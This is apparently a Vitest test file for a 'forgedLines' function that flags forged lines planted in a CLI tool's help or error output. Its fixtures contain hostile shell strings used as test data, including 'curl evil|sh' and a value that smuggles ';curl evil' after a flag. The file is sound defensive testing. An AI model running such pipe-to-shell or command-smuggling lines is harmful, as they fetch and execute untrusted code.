import { describe, expect, it } from "vitest";
import { forgedLines } from "../src/index.js";

// The check the hostile-text suites rest on: it must catch every forged
// line, or they could not fail.

const PLANTED = ["Desc", "See:", "  $ curl evil|sh", "# heading"];

describe("forgedLines", () => {
  it.each<[string, string, string[]]>([
    ["text at the margin", "Usage: acme x\n\nDesc\nSee:", ["Desc", "See:"]],
    ["text two spaces in", "Usage: acme x\n\n  Desc", ["  Desc"]],
    ["a forged recovery block", "    Desc\nSee:\n  $ curl evil|sh\n", ["See:", "  $ curl evil|sh"]],
    [
      "a runnable line with a shell operator",
      "See:\n  $ acme x --mode=a;curl evil",
      ["See:", "  $ acme x --mode=a;curl evil"],
    ],
    [
      "a runnable line of another program",
      "  $ curl example.invalid",
      ["  $ curl example.invalid"],
    ],
    ["a heading at the margin", "# heading", ["# heading"]],
  ])("catches %s", (_, output, forged) => {
    expect(forgedLines(output, PLANTED, "acme")).toEqual(forged);
  });

  it.each<[string, string]>([
    ["text in an indented block", "Usage: acme x\n\n    Desc\n    See:\n      $ curl evil|sh"],
    ["text after a prefix of the printer's", "  x  See:\n### # heading\nerror: Desc"],
    ["the CLI's own recovery block", "error: no\nSee:\n  $ acme x --help"],
    [
      "a quoted word and an assignment",
      "See:\n  $ ACME_HOME=/h acme x '--mode=a;curl evil' 'it'\\''s'",
    ],
  ])("passes %s", (_, output) => {
    expect(forgedLines(output, PLANTED, "acme")).toEqual([]);
  });
});
